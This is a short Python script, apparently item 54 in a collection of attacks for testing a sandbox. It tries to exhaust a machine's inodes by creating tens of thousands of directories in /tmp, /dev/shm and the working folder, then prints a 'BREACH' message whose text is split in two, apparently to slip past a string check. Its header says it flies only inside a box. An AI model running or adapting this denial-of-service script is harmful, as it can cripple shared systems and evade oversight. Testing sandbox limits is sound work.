# attack: 54
# title: a flood of empty files, in every place that can be written
# success: the machine runs out of inodes
# unshown: would harm the machine without a box
import itertools
import os

for folder in ("/tmp", "/dev/shm", "."):
    made = 0
    try:
        for number in itertools.count():
            os.mkdir(os.path.join(folder, f"corpus_{number}"))
            made += 1
            if made > 50_000:
                print("BRE" "ACH: as many as I like")
                break
    except OSError as error:
        print(made, error)
